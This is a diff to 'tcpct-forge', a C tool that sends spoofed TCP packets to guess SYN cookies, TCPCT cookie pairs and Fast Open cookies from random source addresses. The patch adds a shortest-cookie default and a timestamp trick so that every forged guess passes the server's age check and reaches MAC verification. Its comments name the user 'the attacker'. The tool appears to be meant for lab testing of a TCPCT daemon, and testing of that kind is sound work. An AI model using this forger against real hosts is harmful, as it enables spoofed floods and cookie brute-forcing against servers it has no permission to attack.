@@ -7,11 +7,16 @@
  *   ack    the ACK of a classic cookie: seq, ack (the guessed ISN + 1)
  *          and the TSecr (whose low bits carry the options) at random
  *   tcpct  an RFC 6013 third packet: Timestamps Extended and a Cookie-Pair
- *          whose responder half is guessed
+ *          whose responder half is guessed.  The responder cookie is as
+ *          long as the initiator's, which the attacker picks: -c CLEN
+ *          bytes, 8 (the shortest, its best) unless given.  Its TSecr is
+ *          the wall clock in ms a second ago (-t: fixed), as tcpctd's
+ *          TSvals run, so that the cookie's age passes and every guess
+ *          meets the MAC
  *   tfo    a Fast Open SYN with a guessed 8-byte cookie and a DNS query
  *
  *   tcpct-forge MODE DST PORT COUNT [-r RATE] [-s PREFIX] [-p SPORT]
- *               [-q SEQ] [-t TSECR] [-i MASK VALUE] [-x SEED]
+ *               [-q SEQ] [-t TSECR] [-i MASK VALUE] [-c CLEN] [-x SEED]
  *
  * Sources are random addresses of PREFIX (198.18.0.0/15: the lab routes
  * the answers back to the attacker) and random ports, or -p one port and
@@ -51,6 +56,7 @@ struct forge {
 	bool fixed_seq, fixed_tsecr;
 	uint32_t seq, tsecr;
 	uint32_t isn_mask, isn_value;
+	unsigned clen;			/* TCPCT: one cookie's bytes */
 	uint64_t rng;
 };
 
@@ -78,6 +84,17 @@ dns_query(uint8_t *b, uint16_t id)
 	put16(b + 2, id);
 	memcpy(b + 4, q, sizeof(q));
 	return 4 + sizeof(q);
+}
+
+/* The wall clock in ms, as tcpctd's TSvals to TCPCT clients run. */
+static uint32_t
+wall_ms(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_REALTIME, &ts);
+	return (uint32_t)((uint64_t)ts.tv_sec * 1000 +
+			  (uint64_t)ts.tv_nsec / 1000000);
 }
 
 /* Builds the next forged packet into buf; returns its length. */
@@ -114,8 +131,11 @@ build(struct forge *f, uint8_t *buf)
 	case MODE_TCPCT: {
 		uint8_t ci[TCPCT_COOKIE_MAX], cr[TCPCT_COOKIE_MAX];
 		struct tcpct_ext_spec e = {
-			.tsval = (uint32_t)next(f), .tsecr = (uint32_t)next(f),
-			.ci = ci, .cr = cr, .clen = TCPCT_COOKIE_MAX,
+			.tsval = (uint32_t)next(f),
+			/* A second ago: tcpctd reads its clock once a
+			 * batch, and refuses a TSecr ahead of it. */
+			.tsecr = f->fixed_tsecr ? f->tsecr : wall_ms() - 1000,
+			.ci = ci, .cr = cr, .clen = f->clen,
 		};
 		size_t area, n;
 		unsigned i;
@@ -198,7 +218,7 @@ usage(FILE *out)
 {
 	fprintf(out, "usage: tcpct-forge ack|tcpct|tfo DST PORT COUNT [-r RATE] "
 		     "[-s PREFIX] [-p SPORT] [-q SEQ] [-t TSECR] [-i MASK VALUE] "
-		     "[-x SEED]\n");
+		     "[-c CLEN] [-x SEED]\n");
 }
 
 int
@@ -208,7 +228,8 @@ main(int argc, char **argv)
 	struct mmsghdr msgs[BATCH];
 	struct iovec iov[BATCH];
 	struct sockaddr_in to = { .sin_family = AF_INET };
-	struct forge f = { .rng = 0x9e3779b97f4a7c15ull };
+	struct forge f = { .rng = 0x9e3779b97f4a7c15ull,
+			   .clen = TCPCT_COOKIE_MIN };
 	unsigned long long count, sent = 0, rate = 0;
 	double start, elapsed;
 	int i, fd;
@@ -255,6 +276,14 @@ main(int argc, char **argv)
 		} else if (!strcmp(argv[i], "-i") && i + 2 < argc) {
 			f.isn_mask = (uint32_t)strtoul(argv[++i], NULL, 0);
 			f.isn_value = (uint32_t)strtoul(argv[++i], NULL, 0);
+		} else if (!strcmp(argv[i], "-c") && i + 1 < argc) {
+			f.clen = (unsigned)atoi(argv[++i]);
+			if (f.clen < TCPCT_COOKIE_MIN ||
+			    f.clen > TCPCT_COOKIE_MAX || f.clen % 2) {
+				fprintf(stderr, "tcpct-forge: -c: 8 to 16, "
+					"even\n");
+				return 2;
+			}
 		} else if (!strcmp(argv[i], "-x") && i + 1 < argc)
 			f.rng ^= strtoull(argv[++i], NULL, 0);
 		else {
